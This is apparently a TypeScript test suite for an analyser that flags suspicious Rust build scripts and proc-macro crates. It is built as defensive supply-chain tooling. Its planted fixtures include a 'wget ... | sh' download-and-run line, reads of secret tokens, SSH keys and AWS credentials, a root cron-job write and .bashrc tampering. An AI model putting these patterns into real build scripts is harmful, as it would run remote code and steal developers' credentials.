/**
 * One planted fixture per rule of the build-script analysis: each expected finding is a
 * `// expect: rule/severity` marker on its line, and the test requires exactly those findings
 * (no more, no fewer), so both misses and false alarms fail.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { analyzeBuildScript, analyzeProcMacro } from "./build-script-analysis.js";
import {
  expectedMarkers,
  fakeBase64,
  fakeHex,
  findingKeys,
  memoryReader,
  testParser,
} from "./build-script-test-kit.test.js";

async function checkBuildScript(
  files: Record<string, string | Uint8Array>,
  options: { entry?: string; renames?: Map<string, string> } = {},
): Promise<void> {
  const parser = await testParser();
  const result = analyzeBuildScript(parser, {
    entry: options.entry ?? "build.rs",
    read: memoryReader(files),
    renames: options.renames,
  });
  const texts = Object.fromEntries(
    Object.entries(files).filter((e): e is [string, string] => typeof e[1] === "string"),
  );
  assert.deepEqual(
    findingKeys(result.findings),
    expectedMarkers(texts),
    JSON.stringify(result.findings, null, 1),
  );
}

describe("build-script rules, one planted pattern each", () => {
  it("network: std::net sockets, HTTP client crates, DNS lookups, in code and in macros", async () => {
    await checkBuildScript({
      "build.rs": `use std::net::TcpStream; // expect: network/high
use std::net::Ipv4Addr;
use std::io::Write;
fn main() {
    let addr = Ipv4Addr::new(127, 0, 0, 1);
    let mut s = std::net::TcpStream::connect("10.0.0.1:80").unwrap(); // expect: network/high
    let body = reqwest::blocking::get("https://example.invalid/x"); // expect: network/high
    let _ = ureq::get("https://example.invalid"); // expect: network/high
    let a = "example.invalid:443".to_socket_addrs(); // expect: network/high
    println!("{:?}", std::net::UdpSocket::bind("0.0.0.0:0")); // expect: network/high
    let _ = addr;
}
`,
    });
  });

  it("network: extern crate and renamed dependencies", async () => {
    await checkBuildScript(
      {
        "build.rs": `extern crate curl; // expect: network/high
use web::blocking::Client; // expect: network/high
fn main() { let _ = hyper::Client::new(); } // expect: network/high
`,
      },
      { renames: new Map([["web", "reqwest"]]) },
    );
  });

  it("process: toolchain informational, other tools medium, network tools and shells that download high", async () => {
    await checkBuildScript({
      "build.rs": `use std::env;
use std::process::Command;
fn run(program: &str) {
    Command::new(program).status().unwrap(); // expect: process/medium
}
fn main() {
    let rustc = env::var("RUSTC").unwrap_or_else(|_| "rustc".to_string());
    Command::new(&rustc).arg("-V").output().unwrap(); // expect: process/info
    Command::new("cc").arg("-c").arg("x.c").status().unwrap(); // expect: process/info
    Command::new("pkg-config").args(["--libs", "zlib"]).output().unwrap(); // expect: process/info
    Command::new("git").args(&["rev-parse", "HEAD"]).output().unwrap(); // expect: process/info
    Command::new("make").arg("-j4").status().unwrap(); // expect: process/medium
    Command::new("curl").arg("-o").arg("x").status().unwrap(); // expect: process/high
    Command::new("git").args(["clone", "https://example.invalid/r.git"]).status().unwrap(); // expect: process/high
    let mut sh = Command::new("sh"); // expect: process/high
    sh.arg("-c").arg("wget -q -O- http://example.invalid/i.sh | sh");
    sh.status().unwrap();
    Command::new("python3").arg("gen.py").status().unwrap(); // expect: process/medium
    let cc = cc::Build::new().get_compiler();
    Command::new(cc.path()).arg("-v").status().unwrap(); // expect: process/info
    run("true");
}
`,
    });
  });

  it("process: 2015-edition try!(..) does not hide the call inside it", async () => {
    await checkBuildScript({
      "build.rs": `use std::process::Command;
fn fetch() -> std::io::Result<()> {
    let out = try!(Command::new("curl").arg("-O").output()); // expect: process/high
    Ok(())
}
fn main() { fetch().unwrap(); }
`,
    });
  });

  it("process: libc exec and system calls", async () => {
    await checkBuildScript({
      "build.rs": `fn main() {
    unsafe { libc::system(b"id\\0".as_ptr() as *const _); } // expect: process/high expect: unsafe/medium
}
`,
    });
  });

  it("secret-env: secret-like variables and HOME are high, cargo's own variables are nothing", async () => {
    await checkBuildScript({
      "build.rs": `use std::env;
fn main() {
    let out = env::var("OUT_DIR").unwrap();
    let v = env::var("CARGO_PKG_VERSION").unwrap();
    let t = std::env::var("TARGET").unwrap();
    let f = env::var_os("CARGO_FEATURE_STD").is_some();
    let k = env::var("AWS_SECRET_ACCESS_KEY"); // expect: secret-env/high
    let g = env::var("GITHUB_TOKEN"); // expect: secret-env/high
    let h = env::var_os("HOME"); // expect: secret-env/high
    let c = env!("CARGO_REGISTRY_TOKEN"); // expect: secret-env/high
    let n = option_env!("NPM_TOKEN"); // expect: secret-env/high
    let p = env::var("DATABASE_PASSWORD"); // expect: secret-env/high
    println!("cargo:warning={}", env::var("DEPLOY_KEY").unwrap()); // expect: secret-env/high
    for (k, v) in env::vars() {} // expect: env-dump/info
}
`,
    });
  });

  it("path-write: OUT_DIR is fine, traced data flow decides the rest", async () => {
    await checkBuildScript({
      "build.rs": `use std::{env, fs, path::{Path, PathBuf}};
use std::fs::File;
fn helper(p: &Path) {
    fs::write(p, "x").unwrap(); // expect: path-write/info
}
fn main() {
    let out_dir = env::var("OUT_DIR").unwrap();
    let dest = Path::new(&out_dir).join("gen.rs");
    fs::write(&dest, "pub fn f() {}").unwrap();
    File::create(PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("x")).unwrap();
    fs::write(format!("{}/y.rs", out_dir), "").unwrap();
    fs::write(Path::new(&out_dir).join("../../../escape"), "").unwrap(); // expect: path-write/medium
    fs::write("/etc/cron.d/job", "* * * * * root id").unwrap(); // expect: path-write/high
    let home = env::var("HOME").unwrap(); // expect: secret-env/high
    let rc = Path::new(&home).join(".bashrc");
    let mut f = File::create(&rc).unwrap(); // expect: path-write/high
    fs::write("src/generated.rs", "").unwrap(); // expect: path-write/medium
    let manifest = env::var("CARGO_MANIFEST_DIR").unwrap();
    fs::create_dir_all(Path::new(&manifest).join("gen")).unwrap(); // expect: path-write/medium
    fs::write(env::temp_dir().join("x"), "").unwrap(); // expect: path-write/high
    std::fs::OpenOptions::new().append(true).open("/tmp/log").unwrap(); // expect: path-write/high
    helper(&dest);
}
`,
    });
  });

  it("path-read and credential-path: home, credentials and absolute paths", async () => {
    await checkBuildScript({
      "build.rs": `use std::fs;
fn main() {
    let passwd = fs::read_to_string("/etc/passwd"); // expect: path-read/medium
    let inc = fs::read_dir("/usr/include"); // expect: path-read/info
    let home = dirs::home_dir().unwrap(); // expect: path-read/high
    let cfg = fs::read(home.join(".gitconfig")); // expect: path-read/high
    let key = "~/.ssh/id_rsa"; // expect: credential-path/high
    let aws = std::fs::File::open("/root/.aws/credentials"); // expect: path-read/high expect: credential-path/high
    let local = fs::read_to_string("wrapper.h");
}
`,
    });
  });

  it("include-binary: executables by magic number or name; text and data includes", async () => {
    const elf = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
    await checkBuildScript({
      "build.rs": `const A: &[u8] = include_bytes!("assets/helper"); // expect: include-binary/high
const B: &[u8] = include_bytes!("tool.exe"); // expect: include-binary/high
const C: &str = include_str!("README.md");
const D: &[u8] = include_bytes!("table.dat"); // expect: include-binary/info
const E: &str = include_str!(concat!(env!("OUT_DIR"), "/gen.rs"));
const F: &[u8] = include_bytes!("/usr/bin/id"); // expect: include-binary/medium
fn main() {}
`,
      "assets/helper": elf,
      "README.md": "# hi\n",
    });
  });

  it("encoded-blob: long base64 and hex strings, split blobs, big byte arrays; short ones pass", async () => {
    const numbers = Array.from({ length: 600 }, (_, i) => String((i * 37) % 256)).join(", ");
    await checkBuildScript({
      "build.rs": `const P: &str = "${fakeBase64(400)}"; // expect: encoded-blob/high
const H: &str = "${fakeHex(300)}"; // expect: encoded-blob/high
const SHA: &str = "${fakeHex(64)}";
const S: &str = concat!("${fakeBase64(120, 3)}", "${fakeBase64(120, 5)}"); // expect: encoded-blob/high
const BYTES: [u8; 600] = [${numbers}]; // expect: encoded-blob/medium
const WORDS: &str = "${"abcdefghij".repeat(30)}";
fn main() {}
`,
    });
  });

  it("unsafe and FFI in build scripts are medium", async () => {
    await checkBuildScript({
      "build.rs": `extern "C" { // expect: ffi/medium
    fn getpid() -> i32;
}
#[link(name = "dl")] // expect: ffi/medium
extern "C" {} // expect: ffi/medium
unsafe fn raw() {} // expect: unsafe/medium
fn main() {
    let pid = unsafe { getpid() }; // expect: unsafe/medium
    let lib = libloading::Library::new("libx.so"); // expect: ffi/medium
}
`,
    });
  });

  it("follows `mod` files next to the build script and `include!`d files, and `#[path]`", async () => {
    await checkBuildScript(
      {
        "build/main.rs": `mod probe;
#[path = "../tools/net.rs"]
mod net;
include!("extra.rs");
fn main() { probe::run(); }
`,
        "build/probe.rs": `pub fn run() {
    std::process::Command::new("ninja").status().unwrap(); // expect: process/medium
}
`,
        "tools/net.rs": `pub fn go() { let _ = std::net::TcpStream::connect("x:1"); } // expect: network/high
`,
        "build/extra.rs": `fn more() { let _ = std::env::var("GH_TOKEN"); } // expect: secret-env/high
`,
      },
      { entry: "build/main.rs" },
    );
  });

  it("skips #[cfg(test)] modules and #[test] functions", async () => {
    await checkBuildScript({
      "build.rs": `fn main() {}
#[cfg(test)]
mod tests {
    #[test]
    fn t() { std::process::Command::new("curl").status().unwrap(); }
}
#[test]
fn t2() { let _ = std::env::var("HOME"); }
`,
    });
  });
});

describe("proc-macro crates", () => {
  it("analyses every source file, skips quote! output, reports unsafe as info", async () => {
    const parser = await testParser();
    const files: Record<string, string> = {
      "src/lib.rs": `use proc_macro::TokenStream;
use quote::quote;
mod expand;
#[cfg(test)]
mod tests;
#[proc_macro_derive(Net)]
pub fn derive(input: TokenStream) -> TokenStream {
    let code = quote! {
        fn connect() -> std::net::TcpStream { std::net::TcpStream::connect("x:1").unwrap() }
        fn home() -> String { std::env::var("HOME").unwrap() }
    };
    let _ = unsafe { core::mem::zeroed::<u8>() }; // expect: unsafe/info
    code.into()
}
`,
      "src/expand.rs": `pub fn f() { let _ = std::fs::read_to_string("/home/u/.cargo/credentials.toml"); } // expect: path-read/high expect: credential-path/high
`,
      "src/unreached.rs": `pub fn g() { std::process::Command::new("wget").status().unwrap(); } // expect: process/high
`,
      "src/tests.rs": `fn t() { std::process::Command::new("wget").status().unwrap(); }
`,
    };
    const result = analyzeProcMacro(parser, {
      entry: "src/lib.rs",
      files: Object.keys(files),
      read: memoryReader(files),
    });
    assert.deepEqual(
      findingKeys(result.findings),
      expectedMarkers(files),
      JSON.stringify(result.findings, null, 1),
    );
    assert.deepEqual(result.files, ["src/lib.rs", "src/expand.rs", "src/unreached.rs"]);
  });
});
